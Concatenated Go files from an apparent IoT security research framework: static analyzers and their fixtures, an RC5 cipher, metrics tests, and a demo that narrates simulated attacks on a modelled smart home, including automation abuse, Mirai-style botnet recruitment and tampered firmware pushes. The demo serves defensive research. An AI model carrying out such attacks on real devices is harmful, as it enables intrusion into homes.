	suite := NewTaintSuite(nil, fixtureTaintRule(XLFPlaintextEscape), fixtureTaintRule(XLFSecretLeak))
	checkFixture(t, "taint", suite...)
}

// TestFindingString pins the diagnostic format the CI gate greps for.
func TestFindingString(t *testing.T) {
	f := Finding{File: "a/b.go", Line: 7, Rule: "layercheck", Message: "boom"}
	if got, wantStr := f.String(), "a/b.go:7: [layercheck] boom"; got != wantStr {
		t.Errorf("String() = %q, want %q", got, wantStr)
	}
}

// TestLayerTableMirrorsModule loads the real repository and asserts the
// architecture table is complete and violation-free — the layer DAG as a
// unit test, independent of the cmd/xlf-vet driver.
func TestLayerTableMirrorsModule(t *testing.T) {
	pkgs, err := LoadModule(moduleRoot(t))
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range Run(pkgs, []Analyzer{NewLayerCheck(XLFModule, XLFLayerTable)}) {
		t.Error(f)
	}
}

// TestRepoCleanUnderAllRules is the repo-tip gate: every analyzer, zero
// findings beyond the justified waivers frozen in vet-baseline.json.
func TestRepoCleanUnderAllRules(t *testing.T) {
	root := moduleRoot(t)
	pkgs, err := LoadModule(root)
	if err != nil {
		t.Fatal(err)
	}
	base, err := LoadBaseline(filepath.Join(root, "vet-baseline.json"))
	if err != nil {
		t.Fatal(err)
	}
	findings := Run(pkgs, XLFAnalyzers())
	for i := range findings {
		if rel, err := filepath.Rel(root, findings[i].File); err == nil {
			findings[i].File = filepath.ToSlash(rel)
		}
	}
	kept, suppressed := base.Filter(findings)
	for _, f := range kept {
		t.Error(f)
	}
	// The baseline must not rot: every waiver still matches a finding.
	// (The count dropped from 7 when the pooled kernel made netsim's Send
	// allocation-free and its tracking waiver was retired.)
	if want := len(findings) - len(kept); suppressed != want || suppressed != 6 {
		t.Errorf("baseline suppressed %d finding(s), want 6; stale entries must be pruned", suppressed)
	}
}

// moduleRoot walks up from the test's working directory to go.mod.
func moduleRoot(t *testing.T) string {
	t.Helper()
	dir, err := os.Getwd()
	if err != nil {
		t.Fatal(err)
	}
	for {
		if _, err := os.Stat(filepath.Join(dir, "go.mod")); err == nil {
			return dir
		}
		parent := filepath.Dir(dir)
		if parent == dir {
			t.Fatal("no go.mod above test directory")
		}
		dir = parent
	}
}
