// Smarthome: a full day-in-the-life of an XLF-protected home — benign
// routines, the §IV-C3 automation, and a staged multi-layer attack
// campaign — narrated as it unfolds.
package main

import (
	"fmt"
	"log"
	"time"

	"xlf"
	"xlf/internal/analytics"
	"xlf/internal/attack"
	"xlf/internal/service"
)

func main() {
	sys, err := xlf.New(xlf.Options{
		Seed:  2026,
		Flaws: service.Flaws{CoarseGrants: true, UnsignedEvents: true, OpenRedirectOTA: true},
	})
	if err != nil {
		log.Fatal(err)
	}
	k := sys.Home.Kernel

	narrate := func(msg string) {
		fmt.Printf("[%8s] %s\n", k.Now().Truncate(time.Millisecond), msg)
	}
	sys.Core.OnAlert = func(a xlf.CoreAlert) { narrate("XLF " + a.String()) }

	// The climate automation from the paper: window opens above 80F.
	above := 80.0
	if err := sys.InstallApp(&service.SmartApp{
		ID: "climate-window",
		Rules: []service.Rule{{
			TriggerDevice: "thermo-1", TriggerEvent: "temperature", TriggerAbove: &above,
			ActionDevice: "window-1", ActionCommand: "open",
		}},
		Grants: []service.Grant{
			{DeviceID: "thermo-1", Capability: "temperature"},
			{DeviceID: "window-1", Capability: "lock"},
		},
	}); err != nil {
		log.Fatal(err)
	}

	// Morning routine (benign).
	type ev struct {
		at  time.Duration
		dev string
		e   string
	}
	for _, e := range []ev{
		{30 * time.Second, "bulb-1", "on"},
		{time.Minute, "coffee-1", "brew"},
		{90 * time.Second, "coffee-1", "done"},
		{2 * time.Minute, "thermo-1", "heat"},
		{3 * time.Minute, "thermo-1", "target_reached"},
		{4 * time.Minute, "bulb-1", "off"},
	} {
		e := e
		k.Schedule(e.at, "routine", func() {
			narrate("user: " + e.dev + " " + e.e)
			if err := sys.Home.UserEvent(e.dev, e.e); err != nil {
				narrate("  (device refused: " + err.Error() + ")")
			}
		})
	}

	// The family leaves at t=5m: contextual analytics knows nobody is
	// home and it is cold outside.
	k.Schedule(5*time.Minute, "depart", func() {
		narrate("context: family departs; 30F outside")
		sys.SetContext(analytics.Context{OutdoorTempF: 30, UserHome: false})
	})

	env := sys.Home.AttackEnv()
	// t=6m: attacker heats the thermostat's sensor — the legitimate
	// automation opens the window for the burglar (§IV-C3).
	k.Schedule(6*time.Minute, "policy-abuse", func() {
		narrate("attacker: heating the thermostat sensor")
		res := (&attack.PolicyAbuse{ThermoID: "thermo-1", FakeTempF: 95}).Execute(env)
		narrate("attacker: " + res.String())
	})
	// t=8m: botnet recruitment.
	k.Schedule(8*time.Minute, "recruit", func() {
		narrate("attacker: scanning for telnet + default credentials")
		res := (&attack.MiraiRecruit{CNC: "wan:cnc", BeaconEvery: 12 * time.Second}).Execute(env)
		narrate("attacker: " + res.String())
	})
	// t=11m: tampered firmware push.
	k.Schedule(11*time.Minute, "ota", func() {
		narrate("attacker: pushing tampered firmware to cam-1")
		res := (&attack.FirmwareModulation{Target: "cam-1"}).Execute(env)
		narrate("attacker: " + res.String())
	})

	if err := sys.Home.Run(15 * time.Minute); err != nil {
		log.Fatal(err)
	}

	fmt.Println()
	fmt.Print(sys.Report())
	fmt.Println()
	fmt.Println("NAC policy after containment:")
	fmt.Print(sys.NAC.Describe())
}
