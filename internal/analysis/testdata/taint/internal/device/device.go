package device

// NewPayload is the fixture's device-layer payload constructor — the
// taint source for the plaintextescape rule.
func NewPayload(deviceID, kind, body string) []byte {
	return []byte(kind + ":" + deviceID + ":" + body)
}
