package lwc

import (
	"crypto/cipher"
	"encoding/binary"
	"fmt"
	"math/bits"
)

// RC5 magic constants for w=32 (Odd((e-2)*2^32) and Odd((phi-1)*2^32)).
const (
	rc5P32 uint32 = 0xB7E15163
	rc5Q32 uint32 = 0x9E3779B9
)

type rc5 struct {
	s      []uint32
	rounds int
}

var _ cipher.Block = (*rc5)(nil)

// NewRC5 returns RC5-32/r/b (Rivest, 1994): 32-bit words (64-bit block),
// r rounds, and a key of b bytes, 0 <= b <= 255. Table III lists the
// parameterisation key 0..2040 bits, rounds 1..255; RC5-32/12/16 is the
// nominal version and is what the registry instantiates.
func NewRC5(key []byte, rounds int) (cipher.Block, error) {
	if len(key) > 255 {
		return nil, KeySizeError{Algorithm: "RC5", Len: len(key)}
	}
	if rounds < 1 || rounds > 255 {
		return nil, fmt.Errorf("lwc: RC5 rounds %d out of range [1,255]", rounds)
	}

	// Key expansion per the RC5 paper: convert key to little-endian words
	// L, fill S with the arithmetic progression P32 + i*Q32, then mix.
	c := (len(key) + 3) / 4
	if c == 0 {
		c = 1
	}
	l := make([]uint32, c)
	for i := len(key) - 1; i >= 0; i-- {
		l[i/4] = l[i/4]<<8 + uint32(key[i])
	}

	t := 2 * (rounds + 1)
	s := make([]uint32, t)
	s[0] = rc5P32
	for i := 1; i < t; i++ {
		s[i] = s[i-1] + rc5Q32
	}

	var a, b uint32
	n := 3 * max(t, c)
	for k, i, j := 0, 0, 0; k < n; k++ {
		a = bits.RotateLeft32(s[i]+a+b, 3)
		s[i] = a
		b = bits.RotateLeft32(l[j]+a+b, int(a+b)&31)
		l[j] = b
		i = (i + 1) % t
		j = (j + 1) % c
	}
	return &rc5{s: s, rounds: rounds}, nil
}

func (c *rc5) BlockSize() int { return 8 }

func (c *rc5) Encrypt(dst, src []byte) {
	checkBlock("RC5", 8, dst, src)
	a := binary.LittleEndian.Uint32(src[0:]) + c.s[0]
	b := binary.LittleEndian.Uint32(src[4:]) + c.s[1]
	for i := 1; i <= c.rounds; i++ {
		a = bits.RotateLeft32(a^b, int(b)&31) + c.s[2*i]
		b = bits.RotateLeft32(b^a, int(a)&31) + c.s[2*i+1]
	}
	binary.LittleEndian.PutUint32(dst[0:], a)
	binary.LittleEndian.PutUint32(dst[4:], b)
}

func (c *rc5) Decrypt(dst, src []byte) {
	checkBlock("RC5", 8, dst, src)
	a := binary.LittleEndian.Uint32(src[0:])
	b := binary.LittleEndian.Uint32(src[4:])
	for i := c.rounds; i >= 1; i-- {
		b = bits.RotateLeft32(b-c.s[2*i+1], -(int(a)&31)) ^ a
		a = bits.RotateLeft32(a-c.s[2*i], -(int(b)&31)) ^ b
	}
	binary.LittleEndian.PutUint32(dst[0:], a-c.s[0])
	binary.LittleEndian.PutUint32(dst[4:], b-c.s[1])
}
