package analysis

// The dead-code rule family: two path-sensitive analyzers over the CFG.
//
//   - deadstore: a complete write to a local variable whose value can
//     never be read on any path (every path overwrites it or exits
//     first). Built on reaching definitions + the DefIsDead query.
//
//   - unreachable: statements no path from the function entry reaches
//     (code after return/panic, dead branches of goto/labels).
//
// Both are correctness signals in this codebase rather than style: a
// dead store to a nonce or a tag variable usually means the fresh value
// was computed and then never fed into the seal/verify call.

import (
	"go/ast"
	"go/token"
	"go/types"
)

// DeadStoreAllowMarker waives a deadstore finding for its line.
const DeadStoreAllowMarker = "xlf:allow-deadstore"

// UnreachableAllowMarker waives an unreachable finding for its line.
const UnreachableAllowMarker = "xlf:allow-unreachable"

// ---------------------------------------------------------------------
// deadstore

// NewDeadStore builds the dead-store analyzer.
func NewDeadStore() Analyzer {
	return &deadStore{oracle: newTypeOracle()}
}

type deadStore struct{ oracle *typeOracle }

func (d *deadStore) Name() string { return "deadstore" }
func (d *deadStore) Doc() string {
	return "a value assigned to a local variable must be readable on some path"
}

func (d *deadStore) Prepare(pkgs []*Package) { d.oracle.check(pkgs) }

func (d *deadStore) Check(pkg *Package) []Finding {
	var out []Finding
	pt := d.oracle.typesOf(pkg)
	for fi := range pkg.Files {
		f := &pkg.Files[fi]
		allowed := allowedLines(pkg.Fset, f.AST, DeadStoreAllowMarker)
		for _, fn := range Functions(f.AST) {
			for _, fnd := range checkDeadStores(pkg, pt, fn) {
				if !allowed[fnd.Line] {
					out = append(out, fnd)
				}
			}
		}
	}
	return out
}

func checkDeadStores(pkg *Package, pt *pkgTypes, fn Function) []Finding {
	g := BuildCFG(fn.Name, fn.Body)
	rd := NewReachingDefs(g, pt)
	reach := g.Reachable()
	exit := exitReadSet(pt, g, fn)
	captured := capturedVars(pt, fn)

	var out []Finding
	for i := range rd.Defs {
		def := &rd.Defs[i]
		w := def.Write
		switch {
		case !w.Complete || w.Ranged:
			// Compound assignments read the old value; range variables
			// are rewritten by the loop itself.
			continue
		case w.RHS == nil:
			// `var x T` zero-value declarations are shape, not a store.
			continue
		case isTypeSwitchGuard(w.RHS):
			// In `switch v := x.(type)` every case body binds its own
			// implicit object, so the guard write never reads as used.
			continue
		case !reach[def.Block]:
			// Unreachable stores are the unreachable rule's finding.
			continue
		case exit[def.Obj]:
			// Named results and defer-read variables are read at exit.
			continue
		case captured[def.Obj]:
			// A closure capturing the variable can observe any write
			// whenever it runs; the CFG cannot order those reads.
			continue
		case !declaredWithin(pt, fn, def.Obj):
			// Writes to globals and closure-captured variables escape the
			// function's CFG; their readers are elsewhere.
			continue
		}
		if DefIsDead(pt, g, def, exit) {
			out = append(out, pkg.finding("deadstore", w.Ident.Pos(),
				"value assigned to %s is never read on any path; remove the dead store or use the value",
				w.Ident.Name))
		}
	}
	return out
}

// isTypeSwitchGuard matches the `x.(type)` form only legal in a type
// switch guard.
func isTypeSwitchGuard(rhs ast.Expr) bool {
	ta, ok := rhs.(*ast.TypeAssertExpr)
	return ok && ta.Type == nil
}

// exitReadSet collects the objects implicitly read when the function
// exits: named results, and anything a deferred call (or a closure it
// runs) references — defers observe the variable's final value.
func exitReadSet(pt *pkgTypes, g *CFG, fn Function) map[any]bool {
	exit := make(map[any]bool)
	if fn.Type.Results != nil {
		for _, field := range fn.Type.Results.List {
			for _, name := range field.Names {
				exit[identObj(pt, name)] = true
			}
		}
	}
	for _, d := range g.Defers {
		ast.Inspect(d, func(x ast.Node) bool {
			if id, ok := x.(*ast.Ident); ok && id.Name != "_" {
				exit[identObj(pt, id)] = true
			}
			return true
		})
	}
	return exit
}

// capturedVars collects objects referenced inside function literals but
// declared outside them — by-reference captures whose reads the
// enclosing CFG cannot place. Without type info every identifier a
// literal mentions is treated as captured.
func capturedVars(pt *pkgTypes, fn Function) map[any]bool {
	out := make(map[any]bool)
	ast.Inspect(fn.Body, func(n ast.Node) bool {
		lit, ok := n.(*ast.FuncLit)
		if !ok {
			return true
		}
		ast.Inspect(lit.Body, func(x ast.Node) bool {
			id, isID := x.(*ast.Ident)
			if !isID || id.Name == "_" {
				return true
			}
			obj := identObj(pt, id)
			if v, isVar := obj.(*types.Var); isVar {
				if lit.Pos() <= v.Pos() && v.Pos() <= lit.End() {
					return true // the literal's own local
				}
			}
			out[obj] = true
			return true
		})
		return false // inner literals are covered by the walk above
	})
	return out
}

// declaredWithin reports whether obj is declared inside fn (body or
// parameter list). With checked types this is positional; with the
// string fallback it is approximated by "some definition in this
// function declares it", which rejects globals by name.
func declaredWithin(pt *pkgTypes, fn Function, obj any) bool {
	if v, ok := obj.(*types.Var); ok {
		return fn.Type.Pos() <= v.Pos() && v.Pos() <= fn.Body.End()
	}
	name, ok := obj.(string)
	if !ok {
		return false
	}
	declared := false
	ast.Inspect(fn.Body, func(x ast.Node) bool {
		if declared {
			return false
		}
		switch x := x.(type) {
		case *ast.AssignStmt:
			if x.Tok == token.DEFINE {
				for _, l := range x.Lhs {
					if id, isID := l.(*ast.Ident); isID && "ident:"+id.Name == name {
						declared = true
					}
				}
			}
		case *ast.ValueSpec:
			for _, id := range x.Names {
				if "ident:"+id.Name == name {
					declared = true
				}
			}
		}
		return true
	})
	return declared
}

// ---------------------------------------------------------------------
// unreachable

// NewUnreachable builds the unreachable-code analyzer.
func NewUnreachable() Analyzer { return unreachable{} }

type unreachable struct{}

func (unreachable) Name() string { return "unreachable" }
func (unreachable) Doc() string {
	return "every statement must be reachable from the function entry"
}

func (unreachable) Check(pkg *Package) []Finding {
	var out []Finding
	for fi := range pkg.Files {
		f := &pkg.Files[fi]
		allowed := allowedLines(pkg.Fset, f.AST, UnreachableAllowMarker)
		for _, fn := range Functions(f.AST) {
			for _, fnd := range checkUnreachable(pkg, fn) {
				if !allowed[fnd.Line] {
					out = append(out, fnd)
				}
			}
		}
	}
	return out
}

// checkUnreachable reports the entry statement of each maximal
// unreachable region, not every statement in it — one finding per
// mistake.
func checkUnreachable(pkg *Package, fn Function) []Finding {
	g := BuildCFG(fn.Name, fn.Body)
	reach := g.Reachable()

	dead := make(map[*Block]bool)
	for _, b := range g.Blocks {
		if !reach[b] && b != g.Exit && len(b.Nodes) > 0 {
			dead[b] = true
		}
	}
	if len(dead) == 0 {
		return nil
	}

	covered := make(map[*Block]bool)
	var cover func(b *Block)
	cover = func(b *Block) {
		if covered[b] || !dead[b] {
			return
		}
		covered[b] = true
		for _, s := range b.Succs {
			cover(s)
		}
	}

	var out []Finding
	report := func(b *Block) {
		out = append(out, pkg.finding("unreachable", b.Nodes[0].Pos(),
			"unreachable code: no path from the function entry reaches this statement"))
		cover(b)
	}

	// Region entries first: dead blocks with no dead predecessor.
	for _, b := range g.Blocks {
		if !dead[b] || covered[b] {
			continue
		}
		entry := true
		for _, p := range b.Preds {
			if dead[p] {
				entry = false
				break
			}
		}
		if entry {
			report(b)
		}
	}
	// Leftover cycles (a dead loop whose every block has a dead pred):
	// report the lowest-position block of each remaining region.
	for {
		var first *Block
		for _, b := range g.Blocks {
			if dead[b] && !covered[b] && (first == nil || b.Nodes[0].Pos() < first.Nodes[0].Pos()) {
				first = b
			}
		}
		if first == nil {
			break
		}
		report(first)
	}
	return out
}
