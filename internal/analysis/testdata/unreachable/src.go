// Package unreachablefix exercises the unreachable rule: statements no
// path from the function entry reaches.
package unreachablefix

import "os"

func work() {}

func cond() bool { return false }

func afterReturn() int {
	return 1
	work() // want "unreachable code"
}

func afterPanic() {
	panic("boom")
	work() // want "unreachable code"
}

func afterExit() {
	os.Exit(2)
	work() // want "unreachable code"
}

func afterBothBranchesReturn(c bool) int {
	if c {
		return 1
	} else {
		return 2
	}
	work() // want "unreachable code"
	return 3
}

func deadLoop() int {
	return 1
	for {
		work() // want "unreachable code"
	}
}

func afterGoto() {
	goto done
	work() // want "unreachable code"
done:
	work()
}

// oneFindingPerRegion: consecutive dead statements report once, at the
// region entry.
func oneFindingPerRegion() int {
	return 1
	work() // want "unreachable code"
	work()
	work()
	return 2
}

func okBranches(c bool) int {
	if c {
		return 1
	}
	work()
	return 2
}

func okInfiniteLoopThenCode() {
	for {
		if cond() {
			break
		}
	}
	work()
}

func okDeferAfterReturnPath(c bool) {
	defer work()
	if c {
		return
	}
	work()
}
