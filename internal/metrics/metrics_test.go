package metrics

import (
	"math"
	"strings"
	"testing"
	"time"
)

func TestConfusionScores(t *testing.T) {
	var c Confusion
	// 8 TP, 2 FP, 2 FN, 88 TN.
	for i := 0; i < 8; i++ {
		c.Record(true, true)
	}
	for i := 0; i < 2; i++ {
		c.Record(true, false)
		c.Record(false, true)
	}
	for i := 0; i < 88; i++ {
		c.Record(false, false)
	}
	if p := c.Precision(); p != 0.8 {
		t.Errorf("precision = %v, want 0.8", p)
	}
	if r := c.Recall(); r != 0.8 {
		t.Errorf("recall = %v, want 0.8", r)
	}
	if f := c.F1(); f < 0.799 || f > 0.801 {
		t.Errorf("f1 = %v, want 0.8", f)
	}
	if a := c.Accuracy(); a != 0.96 {
		t.Errorf("accuracy = %v, want 0.96", a)
	}
	s := c.String()
	if !strings.Contains(s, "F1=0.800") {
		t.Errorf("string = %q", s)
	}
}

func TestConfusionEdgeCases(t *testing.T) {
	var c Confusion
	if c.Precision() != 1 || c.Recall() != 1 {
		t.Error("vacuous precision/recall should be 1")
	}
	if c.F1() != 1 {
		t.Errorf("vacuous F1 = %v", c.F1())
	}
	if c.Accuracy() != 0 {
		t.Error("empty accuracy should be 0")
	}
	var a, b Confusion
	a.Record(true, true)
	b.Record(false, true)
	a.Add(b)
	if a.TP != 1 || a.FN != 1 {
		t.Errorf("Add = %+v", a)
	}
}

func TestLatencies(t *testing.T) {
	var l Latencies
	if l.Mean() != 0 || l.Quantile(0.5) != 0 {
		t.Error("empty latencies not zero")
	}
	for i := 1; i <= 100; i++ {
		l.Observe(time.Duration(i) * time.Millisecond)
	}
	if l.Count() != 100 {
		t.Errorf("count = %d", l.Count())
	}
	if m := l.Mean(); m != 50500*time.Microsecond {
		t.Errorf("mean = %v", m)
	}
	// Interpolated ranks over 1..100ms: position q*(n-1).
	if p50 := l.Quantile(0.5); p50 != 50500*time.Microsecond {
		t.Errorf("p50 = %v, want 50.5ms", p50)
	}
	if p99 := l.Quantile(0.99); p99 != 99010*time.Microsecond {
		t.Errorf("p99 = %v, want 99.01ms", p99)
	}
	if p0 := l.Quantile(0); p0 != time.Millisecond {
		t.Errorf("p0 = %v", p0)
	}
	if p100 := l.Quantile(1); p100 != 100*time.Millisecond {
		t.Errorf("p100 = %v", p100)
	}
}

// TestQuantileInterpolation pins the R-7 linear-interpolation definition
// and the empty/single-sample edge cases the experiment reports rely on.
func TestQuantileInterpolation(t *testing.T) {
	cases := []struct {
		name    string
		samples []time.Duration
		q       float64
		want    time.Duration
	}{
		{"empty", nil, 0.5, 0},
		{"empty p99", nil, 0.99, 0},
		{"single median", []time.Duration{7 * time.Millisecond}, 0.5, 7 * time.Millisecond},
		{"single p0", []time.Duration{7 * time.Millisecond}, 0, 7 * time.Millisecond},
		{"single p100", []time.Duration{7 * time.Millisecond}, 1, 7 * time.Millisecond},
		{"pair median", []time.Duration{10 * time.Millisecond, 20 * time.Millisecond}, 0.5, 15 * time.Millisecond},
		{"pair p25", []time.Duration{10 * time.Millisecond, 20 * time.Millisecond}, 0.25, 12500 * time.Microsecond},
		{"triple exact rank", []time.Duration{10 * time.Millisecond, 20 * time.Millisecond, 40 * time.Millisecond}, 0.5, 20 * time.Millisecond},
		{"triple p75 interpolates", []time.Duration{10 * time.Millisecond, 20 * time.Millisecond, 40 * time.Millisecond}, 0.75, 30 * time.Millisecond},
		{"unsorted input", []time.Duration{40 * time.Millisecond, 10 * time.Millisecond, 20 * time.Millisecond}, 0.75, 30 * time.Millisecond},
		{"clamp below", []time.Duration{10 * time.Millisecond, 20 * time.Millisecond}, -0.5, 10 * time.Millisecond},
		{"clamp above", []time.Duration{10 * time.Millisecond, 20 * time.Millisecond}, 1.5, 20 * time.Millisecond},
		{"nan is min", []time.Duration{10 * time.Millisecond, 20 * time.Millisecond}, math.NaN(), 10 * time.Millisecond},
	}
	for _, tc := range cases {
		tc := tc
		t.Run(tc.name, func(t *testing.T) {
			var l Latencies
			for _, s := range tc.samples {
				l.Observe(s)
			}
			if got := l.Quantile(tc.q); got != tc.want {
				t.Errorf("Quantile(%v) over %v = %v, want %v", tc.q, tc.samples, got, tc.want)
			}
		})
	}
}

func TestTableRendering(t *testing.T) {
	tb := NewTable("Table X: demo", "Name", "Value")
	tb.AddRow("alpha", "1")
	tb.AddRowf("beta", 2.5)
	tb.AddRow("gamma") // missing cell
	out := tb.String()
	if !strings.Contains(out, "Table X: demo") {
		t.Error("missing title")
	}
	lines := strings.Split(strings.TrimRight(out, "\n"), "\n")
	if len(lines) != 6 { // title, header, sep, 3 rows
		t.Fatalf("lines = %d:\n%s", len(lines), out)
	}
	if !strings.HasPrefix(lines[1], "Name") {
		t.Errorf("header line = %q", lines[1])
	}
	if tb.Rows() != 3 {
		t.Errorf("rows = %d", tb.Rows())
	}
	// Columns align: all data lines have "Value" column at same offset.
	col := strings.Index(lines[1], "Value")
	if !strings.HasPrefix(lines[3][col:], "1") {
		t.Errorf("misaligned row: %q", lines[3])
	}
}
