package main

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"xlf/internal/exp"
)

// write creates an artifact dir from synthetic results.
func write(t *testing.T, meta exp.RunMeta, results ...*exp.Result) string {
	t.Helper()
	dir := t.TempDir()
	if _, err := exp.WriteArtifacts(dir, results, meta); err != nil {
		t.Fatal(err)
	}
	return dir
}

func result(id, output string, wallNS int64, nums map[string]float64) *exp.Result {
	r := &exp.Result{ID: id, Title: "t " + id, Output: output, Numbers: nums,
		Telemetry: &exp.Telemetry{WallNS: wallNS, AllocBytes: -1, Allocs: -1}}
	return r
}

func stepMeta() exp.RunMeta { return exp.RunMeta{Seed: 1, Parallel: 1, Clock: exp.ClockStep} }

func TestCompareIdentical(t *testing.T) {
	a := write(t, stepMeta(),
		result("E1", "out1\n", 1e6, map[string]float64{"f1": 0.9}),
		result("E2", "out2\n", 2e6, map[string]float64{"recall": 1}))
	b := write(t, stepMeta(),
		result("E1", "out1\n", 1.1e6, map[string]float64{"f1": 0.9}),
		result("E2", "out2\n", 2.1e6, map[string]float64{"recall": 1}))
	var out strings.Builder
	if code := run([]string{"-base", a, "-new", b}, &out); code != 0 {
		t.Fatalf("exit %d, output:\n%s", code, out.String())
	}
	if !strings.Contains(out.String(), "no regressions") {
		t.Errorf("output:\n%s", out.String())
	}
}

func TestCompareFlagsNumberDrift(t *testing.T) {
	a := write(t, stepMeta(), result("E1", "out\n", 1e6, map[string]float64{"f1": 0.90}))
	b := write(t, stepMeta(), result("E1", "out\n", 1e6, map[string]float64{"f1": 0.45}))
	var out strings.Builder
	if code := run([]string{"-base", a, "-new", b}, &out); code != 1 {
		t.Fatalf("exit %d, want 1; output:\n%s", code, out.String())
	}
	if !strings.Contains(out.String(), "f1 drifted") {
		t.Errorf("output:\n%s", out.String())
	}
	// Within tolerance the same drift passes.
	out.Reset()
	if code := run([]string{"-base", a, "-new", b, "-tolerance", "0.9"}, &out); code != 0 {
		t.Errorf("tolerant run exit %d; output:\n%s", code, out.String())
	}
}

// TestCompareSkipsTelemetryNumbers: telemetry.* numbers exist only in
// -telemetry runs, so a baseline produced with telemetry on must compare
// clean against a run with it off (and drift in them is never flagged).
func TestCompareSkipsTelemetryNumbers(t *testing.T) {
	a := write(t, stepMeta(), result("E10", "out\n", 1e6,
		map[string]float64{"events_total": 100, "telemetry.detected": 3, "telemetry.windows": 180}))
	b := write(t, stepMeta(), result("E10", "out\n", 1e6,
		map[string]float64{"events_total": 100}))
	var out strings.Builder
	if code := run([]string{"-base", a, "-new", b}, &out); code != 0 {
		t.Fatalf("exit %d, want 0; output:\n%s", code, out.String())
	}
	if !strings.Contains(out.String(), "no regressions") {
		t.Errorf("output:\n%s", out.String())
	}
}

func TestCompareFlagsMissingAndOutputChange(t *testing.T) {
	a := write(t, stepMeta(),
		result("E1", "out\n", 1e6, nil),
		result("E2", "two\n", 1e6, nil))
	b := write(t, stepMeta(), result("E1", "CHANGED\n", 1e6, nil))
	var out strings.Builder
	if code := run([]string{"-base", a, "-new", b}, &out); code != 1 {
		t.Fatalf("exit %d, want 1; output:\n%s", code, out.String())
	}
	s := out.String()
	if !strings.Contains(s, "E2: missing") {
		t.Errorf("missing experiment not reported:\n%s", s)
	}
	if !strings.Contains(s, "step-clock output hash changed") {
		t.Errorf("output change not reported:\n%s", s)
	}
}

func TestCompareWallClockOutputIsNote(t *testing.T) {
	wall := exp.RunMeta{Seed: 1, Parallel: 1, Clock: exp.ClockWall}
	a := write(t, wall, result("T3", "12.3 MB/s\n", 1e6, nil))
	b := write(t, wall, result("T3", "12.9 MB/s\n", 1e6, nil))
	var out strings.Builder
	if code := run([]string{"-base", a, "-new", b}, &out); code != 0 {
		t.Fatalf("wall-clock output drift should not be a regression; exit %d:\n%s", code, out.String())
	}
	if !strings.Contains(out.String(), "output differs (wall-clock run; expected)") {
		t.Errorf("output:\n%s", out.String())
	}
}

func TestCompareFlagsWallSlowdown(t *testing.T) {
	a := write(t, stepMeta(), result("E1", "out\n", 1e6, nil))
	b := write(t, stepMeta(), result("E1", "out\n", 5e6, nil))
	var out strings.Builder
	if code := run([]string{"-base", a, "-new", b}, &out); code != 1 {
		t.Fatalf("exit %d, want 1; output:\n%s", code, out.String())
	}
	if !strings.Contains(out.String(), "wall time 5.00x baseline") {
		t.Errorf("output:\n%s", out.String())
	}
	// A generous wall tolerance turns it back into a pass.
	out.Reset()
	if code := run([]string{"-base", a, "-new", b, "-wall-tolerance", "5"}, &out); code != 0 {
		t.Errorf("tolerant run exit %d; output:\n%s", code, out.String())
	}
}

func TestCompareNewExperimentIsNote(t *testing.T) {
	a := write(t, stepMeta(), result("E1", "out\n", 1e6, nil))
	b := write(t, stepMeta(),
		result("E1", "out\n", 1e6, nil),
		result("E9", "new\n", 1e6, nil))
	var out strings.Builder
	if code := run([]string{"-base", a, "-new", b}, &out); code != 0 {
		t.Fatalf("exit %d, want 0; output:\n%s", code, out.String())
	}
	if !strings.Contains(out.String(), "E9: new experiment") {
		t.Errorf("output:\n%s", out.String())
	}
}

func TestCompareUsageErrors(t *testing.T) {
	var out strings.Builder
	if code := run([]string{"-base", "only"}, &out); code != 2 {
		t.Errorf("missing -new: exit %d", code)
	}
	if code := run([]string{"-base", t.TempDir(), "-new", t.TempDir()}, &out); code != 2 {
		t.Errorf("empty baseline dir: exit %d", code)
	}
	if code := run([]string{"-bogus"}, &out); code != 2 {
		t.Errorf("bad flag: exit %d", code)
	}
}

func TestCompareCorruptArtifact(t *testing.T) {
	a := write(t, stepMeta(), result("E1", "out\n", 1e6, nil))
	b := write(t, stepMeta(), result("E1", "out\n", 1e6, nil))
	if err := os.WriteFile(filepath.Join(b, "BENCH_Ez.json"), []byte("{not json"), 0o644); err != nil {
		t.Fatal(err)
	}
	var out strings.Builder
	if code := run([]string{"-base", a, "-new", b}, &out); code != 2 {
		t.Errorf("corrupt candidate artifact: exit %d, want 2", code)
	}
	if code := run([]string{"-base", b, "-new", a}, &out); code != 2 {
		t.Errorf("corrupt baseline artifact: exit %d, want 2", code)
	}
}

func TestCompareMissingDir(t *testing.T) {
	a := write(t, stepMeta(), result("E1", "out\n", 1e6, nil))
	gone := filepath.Join(t.TempDir(), "never-written")
	var out strings.Builder
	// A nonexistent baseline dir has no artifacts: a usage-level error,
	// not a silent "no regressions".
	if code := run([]string{"-base", gone, "-new", a}, &out); code != 2 {
		t.Errorf("missing baseline dir: exit %d, want 2", code)
	}
}

// TestCompareEmptyNewSet pins that an empty candidate set reports every
// baseline experiment as missing instead of passing vacuously.
func TestCompareEmptyNewSet(t *testing.T) {
	a := write(t, stepMeta(),
		result("E1", "out\n", 1e6, nil),
		result("E2", "two\n", 1e6, nil))
	var out strings.Builder
	if code := run([]string{"-base", a, "-new", t.TempDir()}, &out); code != 1 {
		t.Fatalf("exit %d, want 1; output:\n%s", code, out.String())
	}
	s := out.String()
	for _, id := range []string{"E1", "E2"} {
		if !strings.Contains(s, id+": missing") {
			t.Errorf("%s not reported missing:\n%s", id, s)
		}
	}
	if !strings.Contains(s, "2 regression(s)") {
		t.Errorf("want 2 regressions:\n%s", s)
	}
}

// TestCompareToleranceBoundary pins the comparison operators at the
// thresholds: drift exactly at -tolerance passes (strictly-greater
// gates), one notch tighter fails. The 0.75/0.25 values are exact in
// binary, so the equality is not at the mercy of rounding.
func TestCompareToleranceBoundary(t *testing.T) {
	a := write(t, stepMeta(), result("E1", "out\n", 1e6, map[string]float64{"f1": 1.0}))
	b := write(t, stepMeta(), result("E1", "out\n", 1.25e6, map[string]float64{"f1": 0.75}))
	var out strings.Builder
	if code := run([]string{"-base", a, "-new", b, "-tolerance", "0.25", "-wall-tolerance", "0.25"}, &out); code != 0 {
		t.Errorf("at-threshold drift should pass; exit %d:\n%s", code, out.String())
	}
	out.Reset()
	if code := run([]string{"-base", a, "-new", b, "-tolerance", "0.2", "-wall-tolerance", "0.25"}, &out); code != 1 {
		t.Errorf("above-threshold number drift should fail; exit %d:\n%s", code, out.String())
	}
	out.Reset()
	if code := run([]string{"-base", a, "-new", b, "-tolerance", "0.25", "-wall-tolerance", "0.2"}, &out); code != 1 {
